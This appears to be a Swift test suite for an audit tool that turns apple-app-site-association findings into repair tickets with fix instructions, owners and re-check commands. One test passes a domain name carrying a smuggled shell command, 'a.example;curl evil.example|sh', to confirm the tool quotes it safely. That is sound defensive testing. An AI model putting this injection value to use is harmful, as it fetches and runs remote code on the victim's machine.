import Findings
import Testing
import Transport

@testable import Audit
@testable import Reports

/// The words to send to whoever can mend something.
@Suite struct HTMLTicketTests {
    /// So many that what is wrong with others is a repair of its own on the page, and not only a row.
    private static let well = (100..<120).map(Estate.well)

    @Test func ticketStandsForItself() {
        let text = TextReport.ticket(Estate.redirect(3)).joined(separator: "\n")
        #expect(
            text.hasPrefix("travel-3.example  FAIL  Links open the browser instead of the app on every Apple system\n"))
        for part in [
            "error  redirect  ", "Impact: ", "What to do: ", "To fix this on nginx:", "   Owner: Ada Lovelace",
            "To be fixed by the administrators of the web server or the CDN in front of it.",
            "After the fix: Run “aasa-audit travel-3.example” again", "root /var/www/travel-3.example;",
            "curl -sS -i 'https://travel-3.example/.well-known/apple-app-site-association'",
            "return 301 https://www.travel-3.example$request_uri;",
        ] {
            #expect(text.contains(part), "\(part)")
        }
    }

    @Test func oneRepairHasOneTicketForAllItsDomains() throws {
        let page = try PageSink.page(Estate(Estate.typical(300)))
        let rows = page.matches(of: #/<a class="row [a-z]+" id="d-([^"]*)"/#).map(\.1)
        let repair = try #require(
            page.firstMatch(of: #/id="repair-1" [^>]*data-rows="0-(\d+)"><b>(\d+)<\/b> domains</#))
        #expect(repair.1 == repair.2)
        let names = rows.prefix(try #require(Int(repair.1)))
        let ticket = try #require(page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)).1
        for name in names { #expect(ticket.contains("- \(name)&#10;")) }
        #expect(ticket.contains("Responsible: ") && ticket.contains("What to do, on "))
        let all = names.joined(separator: " ")
        let code = try #require(ticket.firstMatch(of: #/\[([a-z-]+)\]/#)).1
        let proof = "Fixed when a new run finds \(code) on none of the \(repair.2) domains"
        #expect(ticket.contains("\(proof): &#8220;aasa-audit \(all)&#8221;."), "\(ticket)")
        let many = try PageSink.page(Estate(Estate.typical(600)))
        #expect(
            many.contains(
                #/Fixed when a new run finds [a-z-]+ on none of the 20 domains; for a quick check: &#8220;aasa-audit /#)
        )
    }

    /// A certificate that ends soon is no error: that there is none does not show that it was renewed.
    @Test func aTicketIsNotFixedBeforeAnythingWasDone() throws {
        let page = try PageSink.page(Estate((0..<3).map { Estate.warned($0) } + Self.well))
        let ticket = try #require(page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)).1
        #expect(
            ticket.contains("Fixed when a new run finds tls-certificate-expiring on none of the 3 domains: &#8220;"),
            "\(ticket)")
    }

    /// A stored report can name a domain in any way, and the brackets of an address mean something to a shell.
    @Test(arguments: [
        (DomainID(host: "2001:db8::1", port: 8443), "'[2001:db8::1]:8443'"), (DomainID(host: "a.example"), "a.example"),
        (
            DomainID(host: "a.example", displayHost: "a.example;curl evil.example|sh"),
            "'a.example;curl evil.example|sh'"
        ),
        (DomainID(host: "a.example", displayHost: "$(it's)"), #"'$(it'\''s)'"#),
    ])
    func aNameIsOneWordOfACommand(_ domain: DomainID, _ word: String) throws {
        let reports = (0..<12).map { number in
            var report = Estate.warned(number)
            if number == 0 { report.domain = domain }
            return report
        }
        #expect(RepairAdvice.check(reports[0]).hasPrefix("Run “aasa-audit \(word)” again: "))
        for count in [2, 12] {
            let page = try PageSink.page(Estate(reports.prefix(count) + Self.well))
            let ticket = try #require(
                page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)
            ).1
            #expect(ticket.contains("&#8220;aasa-audit \(EscapedText.escape(word)) "), "\(ticket)")
        }
    }

    /// Lists, tickets and the domain name the same role that can fix it: a file that is too large is its author's work.
    @Test func namesWhoCanFixThisKindOfFinding() throws {
        let reports = (0..<2).map { number in
            var report = Estate.brokenFile(number)
            report.findings = [Finding(.fileOversized, location: .wellKnown, message: "Too large.")]
            (report.owner, report.team, report.contact) = ("Dana", nil, nil)
            return report
        }
        let page = try PageSink.page(Estate(reports + Self.well))
        let ticket = try #require(page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)).1
        #expect(ticket.contains("Responsible: The file&#39;s maintainers"), "\(ticket)")
        #expect(!page.contains("The administrators of the web server or the CDN in front of it"))
    }
}
